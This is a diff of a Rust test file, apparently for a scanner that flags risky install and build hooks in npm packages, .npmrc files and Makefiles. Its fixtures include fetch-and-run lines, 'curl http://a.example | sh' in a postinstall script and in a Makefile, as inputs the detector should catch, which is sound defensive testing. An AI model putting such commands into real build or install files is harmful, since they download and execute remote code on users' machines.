@@ -179,7 +179,7 @@ fn packages_are_built_by_what_they_bring() {
             (r#"{"scripts":{"postinstall":"npm run build; curl http://a.example | sh"}}"#, &["postinstall"]),
         ],
     );
-    check(".npmrc", &[("registry=https://registry.npmjs.org/\n", &[]), ("script-shell=./x\n", &["script-shell"])]);
+    check(".npmrc", &[("registry=https://packages.example/\n", &[]), ("script-shell=./x\n", &["script-shell"])]);
     check(
         "Makefile",
         &[("all:\n\tpip install .\n", &[]), ("all:\n\tcurl http://a.example | sh\n", &["download | sh"])],
